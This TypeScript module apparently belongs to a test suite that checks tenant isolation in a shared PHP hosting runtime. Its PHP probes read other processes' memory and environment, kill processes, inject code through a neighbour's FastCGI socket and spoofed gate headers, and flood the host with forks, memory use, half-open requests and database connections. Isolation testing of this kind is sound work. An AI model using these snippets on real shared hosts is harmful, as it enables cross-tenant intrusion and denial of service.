/** PHP that a broken-into desa might run. Each piece prints JSON of what it got hold of. */

const others = `
$mine = posix_geteuid();
$others = array_values(array_filter(array_map('basename', glob('/proc/[0-9]*')), function ($pid) use ($mine) {
  return !preg_match('/^Uid:\\s+' . $mine . '\\s/m', (string) @file_get_contents("/proc/$pid/status"));
}));
`;

/** Which of these files or folders can be read. */
export const readableOf = (paths: string[]): string => `
echo json_encode(array_values(array_filter(json_decode(base64_decode('${encoded(paths)}')), fn ($path) =>
  @file_get_contents($path) !== false || (is_dir($path) && @scandir($path) !== false))));`;

/** What of other processes (master, nginx, a neighbour's children) and of its own memory can be read, and how many there are. */
export const PROCESSES = `${others}
$got = [];
foreach ($others as $pid)
  foreach (['environ', 'mem', 'maps'] as $what)
    if (@file_get_contents("/proc/$pid/$what", false, null, 0, 1) !== false) $got[] = "$pid/$what";
// Its own addresses it may see, its inherited memory (the pools of all) not.
foreach (['environ', 'mem'] as $what)
  if (@file_get_contents("/proc/self/$what", false, null, 0, 1) !== false) $got[] = "self/$what";
foreach ($others as $pid)
  foreach (['cwd', 'root', 'exe'] as $what) if (@readlink("/proc/$pid/$what") !== false) $got[] = "$pid/$what";
echo json_encode(['others' => count($others), 'got' => $got]);`;

export const SIGNALS = `${others}
$got = [];
foreach ($others as $pid) foreach ([15, 9, 10, 12] as $signal) if (@posix_kill((int) $pid, $signal)) $got[] = "$pid/$signal";
echo json_encode(['others' => count($others), 'got' => $got]);`;

/** Every file and folder outside its own data that it may write to; /proc aside, and the engine's /dev/mqueue: see `SYSTEM_IPC`. */
export const WRITABLE = `
$own = '/data/' . basename(TREE);
echo json_encode(array_values(array_filter(explode("\\n", (string) shell_exec(
  "find / \\\\( -path /proc -o -path /sys -o -path /dev/mqueue -o -path $own \\\\) -prune -o \\\\( -type d -o -type f \\\\) -writable -print 2>/dev/null")))));`;

/** Whether these writes work: each of a path and the way. */
export const writesTo = (paths: string[]): string => `
echo json_encode(array_values(array_filter(json_decode(base64_decode('${encoded(paths)}')), fn ($path) =>
  @file_put_contents($path, 'x') !== false || @symlink('/data', $path) || @rename($path, $path . '.old') || @unlink($path))));`;

export const OPCACHE = `
echo json_encode(array_map(fn ($call) => (bool) @$call(), [
  'status' => fn () => opcache_get_status(),
  'reset' => fn () => opcache_reset(),
  'invalidate' => fn () => opcache_invalidate('/var/www/html/index.php', true),
]));`;

/** Speaks FastCGI to a neighbour's socket and has its pool run `code`; prints the answer or `denied`. */
export const throughSocket = (site: string, code: string): string => `
$socket = @stream_socket_client('unix:///run/sock/${site}.sock', $no, $why, 3);
if (!$socket) { echo 'denied'; return; }
stream_set_timeout($socket, 5);
$record = fn ($type, $body) => pack('CCnnCx', 1, $type, 1, strlen($body), 0) . $body;
$params = '';
foreach (['REQUEST_METHOD' => 'GET', 'SCRIPT_FILENAME' => '/conf/sites/${site}/index.php', 'HTTP_X_CODE' => '${Buffer.from(code).toString('base64')}'] as $key => $value)
  $params .= pack('NN', strlen($key) | 0x80000000, strlen($value) | 0x80000000) . $key . $value;
fwrite($socket, $record(1, pack('nCx5', 1, 0)) . $record(4, $params) . $record(4, '') . $record(5, ''));
echo stream_get_contents($socket);`;

/** What stays between processes, and between desa, beside files: each way that works. */
export const SYSTEM_IPC = `
$key = random_int(1, 1 << 30);
$ways = [
  'queue as a file' => fn () => file_put_contents("/dev/mqueue/$key", ''),
  'folder beside queues' => fn () => mkdir("/dev/mqueue/$key.d"),
  'queue' => fn () => msg_get_queue($key),
  'memory' => fn () => shm_attach($key, 1000),
  'memory by shmop' => fn () => shmop_open($key + 1, 'c', 0666, 100),
  'semaphore' => fn () => sem_get($key),
];
echo json_encode(array_keys(array_filter($ways, fn ($way) => @$way() !== false)));`;

/** Asks a web server that it reaches, with headers of its choice; prints the whole answer. */
export const asks = (host: string, headers: Record<string, string>, path = '/'): string => `
$call = fsockopen('${host}', 8080, $no, $why, 3);
fwrite($call, base64_decode('${Buffer.from(requestOf(path, headers)).toString('base64')}'));
echo stream_get_contents($call);`;

const requestOf = (path: string, headers: Record<string, string>): string =>
  [`GET ${path} HTTP/1.0`, ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`), '', ''].join('\r\n');

/** Asks the runtime's own web server from inside, as a neighbour. */
export const asNeighbour = (site: string, code: string, key: string): string =>
  asks('127.0.0.1', {
    Host: 'x',
    'X-Siappakai-Site': site,
    'X-Siappakai-Gate': key,
    'X-Code': Buffer.from(code).toString('base64'),
  });

/** Which of these hosts a TCP connection opens to. */
export const reached = (hosts: string[], port: number): string => `
echo json_encode(array_values(array_filter(json_decode(base64_decode('${encoded(hosts)}')), fn ($host) =>
  @fsockopen($host, ${port}, $no, $why, 1))));`;

/** Says by an upload that everybody may see that it has come this far. */
const mark = (name: string): string => `touch(TREE . '/desa/upload/${name}');`;

/** Each holds a child of its desa, from its mark on, until somebody ends it. */
export const BUSY: Record<string, (name: string) => string> = {
  loop: (name) => `${mark(name)} while (true);`,
  sleep: (name) => `${mark(name)} set_time_limit(0); sleep(300);`,
  'hold all the memory they may': (name) => `$held = str_repeat('x', 24 << 20); ${mark(name)} sleep(300);`,
  'ask the web server half a question on every connection they can open': (name) => `
for ($calls = []; count($calls) < 700 && ($call = @stream_socket_client('tcp://127.0.0.1:8080', $no, $why, 2)); $calls[] = $call)
  fwrite($call, 'GET / HT');
array_pop($calls);
${mark(name)} sleep(300);`,
};

/** Starts processes that outlive the page until it may start no more, at most 300; prints how many run under its uid. */
export const FORKS = `
for ($tries = 0; $tries < 300; $tries++) {
  $started = @proc_open(['setsid', '--fork', 'sleep', '300'], [], $pipes);
  if (!$started || proc_close($started) !== 0) break;
}
$mine = '/^Uid:\\s+' . posix_geteuid() . '\\s/m';
echo count(array_filter(glob('/proc/[0-9]*/status'), fn ($file) => preg_match($mine, (string) @file_get_contents($file))));`;

/** Has a program without PHP's limit eat memory until somebody ends it; prints the signal that did. */
export const EATS = `
$eater = proc_open(['php', '-d', 'memory_limit=-1', '-r', '$all = ""; while (true) $all .= str_repeat("x", 1 << 20);'], [], $pipes);
do { usleep(100000); $state = proc_get_status($eater); } while ($state['running']);
echo $state['termsig'];`;

/** Opens a connection to a database with every file of every process it may start, and a new one for each it loses. */
export const floods = (host: string): string => `
$program = <<<'PHP'
for ($calls = []; true; usleep(20000)) {
  $calls = array_filter($calls, fn ($call) => fread($call, 4096) !== false && !feof($call));
  while ($call = @stream_socket_client('tcp://${host}:3306', $no, $why, 2)) {
    stream_set_blocking($call, false);
    $calls[] = $call;
  }
}
PHP;
for ($tries = 0; $tries < 40; $tries++) {
  $started = @proc_open(['setsid', '--fork', 'php', '-r', $program], [], $pipes);
  if (!$started || proc_close($started) !== 0) break;
}
echo $tries;`;

/** Logs in to a MariaDB and says what it answers. */
export const logsIn = (host: string, user: string, password: string): string => `
mysqli_report(MYSQLI_REPORT_OFF);
$db = mysqli_init();
$db->options(MYSQLI_OPT_CONNECT_TIMEOUT, 3);
echo @$db->real_connect('${host}', '${user}', '${password}') ? $db->query('SELECT CURRENT_USER()')->fetch_row()[0] : 'refused';`;

function encoded(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64');
}
